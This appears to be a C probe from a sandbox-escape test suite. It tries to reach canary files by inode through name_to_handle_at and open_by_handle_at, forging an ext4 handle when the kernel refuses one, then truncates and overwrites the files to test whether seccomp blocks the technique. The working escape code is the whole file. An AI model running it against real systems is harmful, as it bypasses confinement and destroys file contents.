// attack: escape: name_to_handle_at on a canary file, then open_by_handle_at(O_RDWR|O_TRUNC) on that handle: a file opened by inode, past every path check
// stopped by: seccomp(name_to_handle_at), seccomp(open_by_handle_at)
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    char f[2][256], p[4096];
    if (canary_files(canary, f, 2) < 2) { fprintf(stderr, "fewer than 2 canary files\n"); return 2; }
    for (int i = 0; i < 2; i++) {
        snprintf(p, sizeof p, "%s/%s", canary, f[i]);
        struct { struct file_handle h; unsigned char bytes[128]; } fh;
        fh.h.handle_bytes = 128;
        int mount_id;
        errno = 0;
        if (show("name_to_handle_at(canary file)", syscall(SYS_name_to_handle_at, AT_FDCWD, p, &fh.h, &mount_id, 0)) < 0) {
            // No handle from the kernel: forge an ext4-style one (inode, generation) from stat.
            struct stat st;
            if (stat(p, &st) < 0) continue;
            fh.h.handle_type = 1; // FILEID_INO32_GEN
            fh.h.handle_bytes = 8;
            unsigned int ino = (unsigned int)st.st_ino, gen = 0;
            memcpy(fh.bytes, &ino, 4);
            memcpy(fh.bytes + 4, &gen, 4);
            printf("  forged a handle for inode %u\n", ino);
        }
        int mnt = open(canary, O_RDONLY | O_DIRECTORY);
        errno = 0;
        int fd = (int)show("open_by_handle_at(O_RDWR|O_TRUNC)", syscall(SYS_open_by_handle_at, mnt, &fh.h, O_RDWR | O_TRUNC));
        if (fd >= 0) { write(fd, "overwritten by handle\n", 22); close(fd); }
        close(mnt);
    }
    return 0;
}
